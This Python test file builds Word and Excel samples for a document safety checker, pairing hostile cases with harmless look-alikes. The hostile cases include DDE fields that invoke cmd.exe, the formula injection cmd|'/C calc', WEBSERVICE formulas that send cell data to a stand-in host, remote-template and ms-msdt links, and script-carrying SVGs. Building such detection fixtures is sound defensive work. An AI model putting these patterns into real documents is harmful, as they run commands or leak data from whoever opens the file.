"""Writings and workbooks that load, start, ask or carry something, and harmless ones that look alike."""

from tests.hub.office import papers
from tests.hub.office.papers import relation, relations, types

PARTS = "application/vnd.openxmlformats-officedocument"
SHEET = f"{PARTS}.spreadsheetml"
MICROSOFT = "http://schemas.microsoft.com/office/"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
ALTERNATIVE = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
FAR = "http://jahat.example/a"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
Files = dict[str, str | bytes]


def writing(body: str = "", *links: str, endings: dict[str, str] | None = None, **more: str | bytes) -> bytes:
    """Return a document with this in its body, these relations, and these parts (content type in `types`)."""
    said = {"word__document": papers.WRITING} | {
        name.removesuffix(".xml").replace("/", "__"): kind for name, kind in more.pop("types", {}).items()
    }
    files: Files = papers.parts() | {
        "[Content_Types].xml": types(endings=endings, **said),
        "word/document.xml": papers.writing(body),
    }
    if links:
        files["word/_rels/document.xml.rels"] = relations(*links)
    return papers.zipped(files | {name.replace("__", "/"): content for name, content in more.items()})


def part(kind: str, content_type: str, content: str | bytes = "<a/>", *, name: str = "word/other.xml") -> bytes:
    """Return a document with a part of this relation and content type."""
    target = f"/{name}"
    return writing("", relation(kind, target), **{"types": {name: content_type}, name: content})


def instruction(*pieces: str) -> str:
    """Return a field whose instruction comes in these pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{sign('begin')}{runs}{sign('separate')}<w:r><w:t>1</w:t></w:r>{sign('end')}</w:p>"


def sign(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def nested() -> str:
    """Return DDE whose name another field puts together, as in real attacks."""
    inner = f"{sign('begin')}<w:r><w:instrText>SYMBOL 68</w:instrText></w:r>{sign('end')}"
    return f"<w:p>{sign('begin')}{inner}<w:r><w:instrText>DEAUTO a b</w:instrText></w:r>{sign('end')}</w:p>"


def branches(first: str, second: str) -> str:
    """Return one instruction whose halves lie in both branches of an alternative."""
    halves = "".join(
        f"<mc:{branch}><w:r><w:instrText>{text}</w:instrText></w:r></mc:{branch}>"
        for branch, text in (("Choice", first), ("Fallback", second))
    )
    return f"<w:p {ALTERNATIVE}>{sign('begin')}<mc:AlternateContent>{halves}</mc:AlternateContent>{sign('end')}</w:p>"


def workbook(sheet: str = "", book: str = "", **more: str | bytes) -> bytes:
    """Return a workbook of one sheet with this beside its cells, and this beside its sheets."""
    return papers.zipped(workbook_files(sheet, book) | {name.replace("__", "/"): text for name, text in more.items()})


def workbook_files(sheet: str = "", book: str = "", *links: str, main: str = f"{SHEET}.sheet.main+xml") -> Files:
    cells = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    listed = '<sheets><sheet name="A" sheetId="1" r:id="s1"/></sheets>'
    return {
        "[Content_Types].xml": types(xl__workbook=main, xl__worksheets__sheet1=f"{SHEET}.worksheet+xml"),
        "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{papers.HEAD}<workbook xmlns="{MAIN}" {R}>{listed}{book}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(relation("worksheet", "worksheets/sheet1.xml", name="s1"), *links),
        "xl/worksheets/sheet1.xml": f'{papers.HEAD}<worksheet xmlns="{MAIN}" {R}>{cells}{sheet}</worksheet>',
    }


def formula(text: str) -> bytes:
    return workbook(f'<sheetData><row r="2"><c r="A2"><f>{text}</f></c></row></sheetData>')


def chart(source: bytes, *, relation_of: str = "chart") -> bytes:
    """Return a document with a chart whose figures lie in this workbook."""
    kind = f"{PARTS}.drawingml.chart+xml" if relation_of == "chart" else f"{PARTS}.wordprocessingml.header+xml"
    return writing(
        "",
        relation(relation_of, "charts/chart1.xml"),
        endings={"xlsx": f"{SHEET}.sheet"},
        **{
            "types": {"word/charts/chart1.xml": kind},
            "word/charts/chart1.xml": f'<c xmlns="urn:c" {R}><externalData r:id="rId1"/><f>A!$A$1</f></c>',
            "word/charts/_rels/chart1.xml.rels": relations(relation("package", "../embeddings/Book1.xlsx")),
            "word/embeddings/Book1.xlsx": source,
        },
    )


def picture(content: bytes, kind: str = "image/png", *, ending: str = "png") -> bytes:
    name = f"word/media/a.{ending}"
    return writing("", relation("image", f"media/a.{ending}"), endings={ending: kind}, **{name: content})


def svg(inside: str, attributes: str = "") -> bytes:
    return picture(
        f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inside}</svg>'.encode(), "image/svg+xml", ending="svg"
    )


def hidden() -> bytes:
    return papers.paper(**{"word/rahasia.xml": "<a/>"})


def other_id(tag: str) -> str:
    """Return an element that takes the identity of a clickable link for something that is loaded."""
    return f'<{tag} {R} r:id="h1" r:link="h1" r:embed="h1"/>'


LINK = relation("hyperlink", "https://desa.example/", name="h1", mode="External")
WRITINGS = {
    **{
        f"hubungan {kind}": lambda kind=kind: writing("", relation(kind, FAR, mode="External"))
        for kind in (
            "image",
            "attachedTemplate",
            "subDocument",
            "frame",
            "oleObject",
            "mailMergeSource",
            "aFChunk",
            "video",
            "externalLinkPath",
            "header",
            f"{MICROSOFT}2007/relationships/media",
            "urn:baru",
        )
    },
    **{
        f"bagian {kind}": lambda kind=kind, said=said: part(kind, said)
        for kind, said in {
            "aFChunk": "text/html",
            "oleObject": f"{PARTS}.oleObject",
            "package": f"{SHEET}.sheet",
            "control": "application/vnd.ms-office.activeX+xml",
            f"{MICROSOFT}2006/relationships/vbaProject": "application/vnd.ms-office.vbaProject",
            f"{MICROSOFT}2006/relationships/keyMapCustomizations": "application/vnd.ms-word.keyMapCustomizations+xml",
            f"{MICROSOFT}2011/relationships/webextensiontaskpanes": "application/xml",
            f"{MICROSOFT}2006/relationships/ui/extensibility": "application/xml",
            "header": "application/vnd.ms-office.vbaProject",
            "image": f"{PARTS}.oleObject",
            "customXml": "application/vnd.ms-office.vbaProject",
            "styles": f"{PARTS}.wordprocessingml.comments+xml",
        }.items()
    },
    "jenis utama bermakro": lambda: papers.zipped(
        papers.parts()
        | {"[Content_Types].xml": types(word__document="application/vnd.ms-word.document.macroEnabled.main+xml")}
    ),
    "jenis utama templat": lambda: papers.zipped(
        papers.parts()
        | {"[Content_Types].xml": types(word__document=papers.WRITING.replace("document.main", "template.main"))}
    ),
    "makro di folder lain": lambda: part(
        f"{MICROSOFT}2006/relationships/vbaProject",
        "application/vnd.ms-office.vbaProject",
        name="a/b.xml",
    ),
    "bagian yang tidak dituju": hidden,
    "bidang DDE": lambda: writing(instruction(" DDE c:\\\\windows\\\\cmd.exe a ")),
    "bidang DDEAUTO terpotong": lambda: writing(instruction("DD", "EAU", "TO c:\\\\a")),
    "bidang DDE huruf kecil": lambda: writing(instruction("dde a b")),
    "bidang DDE dirangkai": lambda: writing(nested()),
    "bidang DDE di belakang": lambda: writing(instruction(" PAGE ", " DDE a b")),
    "bidang DDE di satu cabang": lambda: writing(branches("PAGE", "DDE a b")),
    "bidang DDE dihapus": lambda: writing(
        instruction(" PAGE ").replace(
            "</w:p>", f"{sign('begin')}<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>{sign('end')}</w:p>"
        )
    ),
    "bidang tanpa akhir": lambda: writing(f"<w:p>{sign('begin')}<w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>"),
    "bidang tanpa awal": lambda: writing("<w:p><w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>"),
    "bidang sederhana": lambda: writing('<w:p><w:fldSimple w:instr=" DDEAUTO a b "/></w:p>'),
    **{
        f"bidang {text.split()[0]}": lambda text=text: writing(instruction(text))
        for text in (
            'INCLUDEPICTURE "http://jahat.example/a.png"',
            'INCLUDETEXT "\\\\\\\\jahat\\\\a.docx"',
            "LINK Excel.Sheet a b",
            "DATABASE \\d a",
            'IMPORT "a"',
            "EMBED Package",
            "MACROBUTTON Jalan Klik",
            "QUOTE 68 68 69",
            "RD a.docx",
            "PRINT 27",
            "ASK a b",
            "FILLIN a",
            "AUTOTEXT a",
            "GLOSSARY a",
            "SET a b",
            "ADDIN lain",
            "HTMLCONTROL a",
        )
    },
    **{
        f"tautan {place}": lambda place=place: writing(instruction(f"HYPERLINK {place}"))
        for place in (
            '"file:///c:/a.exe"',
            '"\\\\\\\\jahat\\\\a"',
            '"ms-word:ofe|u|http://jahat.example/a"',
            '"javascript:1"',
            "a.exe",
            '\\o "tip" "file:///a"',
            '"http:\\\\\\\\jahat"',
            '"ht&#x9;tp://a"',
            '"data:text/html,a"',
            '"search-ms:a"',
        )
    },
    **{
        f"hubungan tautan {place}": lambda place=place: writing("", relation("hyperlink", place, mode="External"))
        for place in (
            "file:///c:/a.exe",
            "\\\\jahat\\a",
            "javascript:alert(1)",
            "a.exe",
            "ms-msdt:/id",
            "mhtml:http://a!x",
            "http:/a",
            "http://",
            "//jahat/a",
            "ftp://a.example/",
            "HTTPS:\\\\a",
            "ldap://a",
            "",
        )
    },
    "tautan ke bagian": lambda: writing("", relation("hyperlink", "document.xml")),
    **{
        f"tautan dipakai {tag}": lambda tag=tag: writing(f"<w:p>{other_id(tag)}</w:p>", LINK)
        for tag in ("w:pict", "w:blip", "w:altChunk", "w:attachedTemplate", "w:subDoc", "w:control", "w:externalData")
    },
    **{
        f"unsur {tag}": lambda tag=tag: writing(f"<w:p><w:{tag}/></w:p>")
        for tag in ("altChunk", "mailMerge", "webVideoPr", "attachedTemplate", "subDoc", "OLEObject", "frameset")
    },
    "gambar lama dari luar": lambda: writing(f'<w:pict><v:imagedata xmlns:v="urn:v" src="{FAR}"/></w:pict>'),
    "tautan gambar lama": lambda: writing('<w:pict><v:shape xmlns:v="urn:v" href="file:///a"/></w:pict>'),
    "video dari internet": lambda: writing('<w:p><a:x xmlns:a="urn:a" embeddedHtml="&lt;iframe&gt;"/></w:p>'),
    "aksi PowerPoint": lambda: writing('<w:p><a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/></w:p>'),
    "gambar yang program": lambda: picture(b"MZ" + b"\x00" * 50),
    "gambar yang arsip": lambda: picture(b"PK\x03\x04" + b"\x00" * 50),
    "svg berskrip": lambda: svg("<script>1</script>"),
    "svg dengan perintah": lambda: svg("", 'onload="a()"'),
    "svg mengambil": lambda: svg('<image href="http://jahat.example/a.png"/>'),
    "svg mengambil gaya": lambda: svg("<style>@import 'http://jahat.example/a.css';</style>"),
    "svg mengambil isian": lambda: svg('<rect fill="url(http://jahat.example/a#b)"/>'),
    "svg bersama html": lambda: svg("<foreignObject/>"),
    "grafik dengan makro": lambda: chart(
        papers.zipped(workbook_files(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
    ),
    "grafik dengan rumus": lambda: chart(formula("WEBSERVICE(&quot;http://a.example&quot;)")),
    "grafik di dalam grafik": lambda: chart(chart(workbook())),
    "grafik yang bukan buku kerja": lambda: chart(papers.paper()),
    "buku kerja di kepala surat": lambda: chart(workbook(), relation_of="header"),
}
FORMULAS = (
    "WEBSERVICE(&quot;http://a.example/&quot;&amp;A1)",
    "_xlfn.WEBSERVICE(A1)",
    "_xlfn.IMAGE(A1)",
    "RTD(&quot;a&quot;,,1)",
    "CALL(&quot;kernel32&quot;)",
    "REGISTER.ID(&quot;a&quot;)",
    "cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
    "EXEC(&quot;a&quot;)",
    "[1]Sheet1!A1",
    "'[1]Sheet 1'!A1",
    "'\\\\jahat\\[a.xls]A'!A1",
    "'http://jahat.example/[a.xls]A'!A1",
    "[a.xlsx]A!A1",
    "HYPERLINK(&quot;file:///a&quot;)",
    "HYPERLINK(&quot;http://a.example/&quot;&amp;A1,&quot;klik&quot;)",
    "HYPERLINK(A1)",
    "_xll.JAHAT()",
    "JAHAT(A1)",
    "MAP(A1:A2,_xleta.WEBSERVICE)",
    "IF(1,_xlfn.STOCKHISTORY(&quot;a&quot;))",
    "SUM(A1)+DDE(A1)",
    "__xludf.DUMMYFUNCTION(&quot;IMPORTXML(&quot;&quot;http://a&quot;&quot;)&quot;)",
    "CUBEVALUE(&quot;a&quot;)",
    "PY(1)",
    "webservice (A1)",
)
SHEETS = {
    **{f"rumus {text}": lambda text=text: formula(text) for text in FORMULAS},
    "rumus bersyarat": lambda: workbook(
        '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>WEBSERVICE(A1)</formula></cfRule>'
        "</conditionalFormatting>"
    ),
    "rumus pilihan": lambda: workbook(
        '<dataValidations><dataValidation sqref="A1"><formula1>[1]A!A1</formula1></dataValidation></dataValidations>'
    ),
    "nama dengan rumus": lambda: workbook(
        "", "<definedNames><definedName name='a'>WEBSERVICE(A1)</definedName></definedNames>"
    ),
    "nama makro": lambda: workbook(
        "", "<definedNames><definedName name='a' xlm='1' function='1'>A!$A$1</definedName></definedNames>"
    ),
    "tombol makro": lambda: workbook('<controls><control><controlPr macro="[0]!Jalan"/></control></controls>'),
    "isian kotak": lambda: workbook('<x:sp xmlns:x="urn:x" textlink="[1]A!A1"/>'),
    "objek dde": lambda: workbook('<oleObjects><oleObject progId="a" link="[1]!a"/></oleObjects>'),
    "terbit sendiri": lambda: workbook('<webPublishItems><webPublishItem destinationFile="\\\\a"/></webPublishItems>'),
    **{
        f"hubungan {kind}": lambda kind=kind, said=said: papers.zipped(
            workbook_files("", "", relation(kind, "other.xml", name="x"))
            | {
                "xl/other.xml": "<a/>",
                "[Content_Types].xml": types(
                    xl__workbook=f"{SHEET}.sheet.main+xml",
                    xl__worksheets__sheet1=f"{SHEET}.worksheet+xml",
                    xl__other=said,
                ),
            }
        )
        for kind, said in {
            "externalLink": f"{SHEET}.externalLink+xml",
            "connections": f"{SHEET}.connections+xml",
            "queryTable": f"{SHEET}.queryTable+xml",
            "xmlMaps": "application/xml",
            "volatileDependencies": f"{SHEET}.volatileDependencies+xml",
            "revisionHeaders": f"{SHEET}.revisionHeaders+xml",
            "dialogsheet": f"{SHEET}.dialogsheet+xml",
            f"{MICROSOFT}2006/relationships/xlMacrosheet": "application/vnd.ms-excel.macrosheet+xml",
            "worksheet": "application/vnd.ms-excel.macrosheet+xml",
            "http://schemas.onlyoffice.com/jsaProject": f"{PARTS}.oleObject",
        }.items()
    },
    "jenis utama bermakro": lambda: papers.zipped(
        workbook_files(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ),
    "data mashup": lambda: papers.zipped(
        workbook_files("", "", relation("customXml", "../customXml/item1.xml", name="x"))
        | {"customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'}
    ),
}
GOOD_WRITINGS = {
    "kosong": papers.paper,
    "nama lain": lambda: papers.zipped(papers.parts("word/document2.xml")),
    "gambar": lambda: picture(PNG),
    "gambar berjenis salah": lambda: picture(b"\xff\xd8\xff\xe0" + b"\x00" * 50),
    "svg": lambda: svg('<g><a href="#a"/><rect style="fill:url(#b)"/></g>'),
    "grafik": lambda: chart(workbook()),
    "huruf": lambda: part("font", f"{PARTS}.obfuscatedFont", b"\x00" * 40),
    "huruf Google": lambda: writing(
        "",
        relation("font", "fonts/Roboto.ttf"),
        endings={"ttf": "application/x-font-ttf"},
        **{"word/fonts/Roboto.ttf": b"\x00" * 40},
    ),
    "tema": lambda: part("theme", f"{PARTS}.theme+xml"),
    "tema tertinggal": lambda: papers.paper(
        **{"word/theme/theme.xml": '<theme xmlns="http://schemas.openxmlformats.org/drawingml/2006/main"/>'}
    ),
    "komentar": lambda: part("comments", f"{PARTS}.wordprocessingml.comments+xml"),
    "pustaka": lambda: writing(
        "", relation("customXml", "../customXml/item1.xml"), **{"customXml/item1.xml": "<b:Sources xmlns:b='urn:b'/>"}
    ),
    "tautan": lambda: writing(f'<w:p><w:hyperlink {R} r:id="h1"/></w:p>', LINK),
    **{
        f"bidang {text}": lambda text=text: writing(instruction(text))
        for text in (
            " PAGE ",
            " NUMPAGES \\* MERGEFORMAT ",
            ' TOC \\o "1-3" \\h \\z \\u ',
            " PAGEREF _Toc1 \\h ",
            "=SUM(ABOVE)",
            " _Ref12 \\h ",
            ' HYPERLINK "https://desa.example/a" \\o "Klik di sini" ',
            ' HYPERLINK \\l "_Toc123" ',
            "HYPERLINK mailto:desa@a.id",
            " SEQ Tabel \\* ARABIC ",
            ' DATE \\@ "d MMMM yyyy" ',
            " FORMTEXT ",
            ' ADDIN CSL_CITATION {"a":"DDE"}',
            " BIBLIOGRAPHY ",
            ' TC "Link dan import" \\f C ',
            " MERGEFIELD Nama ",
        )
    },
    "bidang di dalam bidang": lambda: writing(
        f"<w:p>{sign('begin')}<w:r><w:instrText>IF </w:instrText></w:r>"
        f"{sign('begin')}<w:r><w:instrText>PAGE</w:instrText></w:r>"
        f'{sign("end")}<w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r>{sign("end")}</w:p>'
    ),
    **{
        f"alamat {place}": lambda place=place: writing("", relation("hyperlink", place, mode="External"))
        for place in (
            "https://desa.example/",
            "HTTP://desa.example",
            "mailto:a@desa.id",
            "tel:+62541",
            "#bagian",
            "https://a.id/b c.pdf ",
            "https://xn--a.id/?q=%20#x",
        )
    },
}
GOOD_SHEETS = {
    "kosong": workbook,
    **{
        f"rumus {text}": lambda text=text: formula(text)
        for text in (
            "SUM(A1:A9)",
            "IF(A1=&quot;a|b [1]&quot;,&quot;x&quot;,1)",
            "'Data | 2026'!A1",
            "Tabel1[[#This Row],[Jumlah]]",
            "Tabel1[1]",
            "_xlfn._xlws.FILTER(A1:B2,A1:A2=1)",
            "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
            "HYPERLINK(&quot;#'Lembar 2'!A1&quot;,&quot;ke&quot;)",
            "HYPERLINK(&quot;https://desa.example/&quot;)",
            "[0]!Total",
            "A1%&amp;&quot; ha&quot;",
            "IFERROR(VLOOKUP(A1,B:C,2,0),&quot;&quot;)",
            "IFERROR(__xludf.DUMMYFUNCTION(&quot;UNIQUE(A1:A9)&quot;),&quot;a&quot;)",
            "SUM({1,2;3,4})",
            "-(A1+2)^2",
            "INDIRECT(A1)",
        )
    },
    "tombol tanpa makro": lambda: workbook('<x:sp xmlns:x="urn:x" macro="" textlink="$A$1"/>'),
}
